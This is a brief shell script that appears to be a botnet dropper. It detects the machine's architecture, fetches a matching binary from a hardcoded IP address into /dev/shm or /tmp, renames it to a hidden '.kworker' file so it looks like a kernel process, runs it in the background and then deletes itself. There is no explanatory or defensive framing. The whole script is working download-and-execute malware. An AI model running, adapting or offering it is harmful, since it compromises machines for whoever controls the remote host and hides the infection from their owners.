#!/bin/sh
H=http://198.51.100.31/b
case $(uname -m) in
  x86_64) A=x86_64 ;;
  aarch64) A=aarch64 ;;
  armv7l) A=arm7 ;;
  mips) A=mips ;;
  *) A=i686 ;;
esac
cd /dev/shm || cd /tmp
wget -q $H/.$A -O .kworker || curl -so .kworker $H/.$A || busybox wget -q $H/.$A -O .kworker
chmod +x .kworker
nohup ./.kworker >/dev/null 2>&1 &
rm -f $0
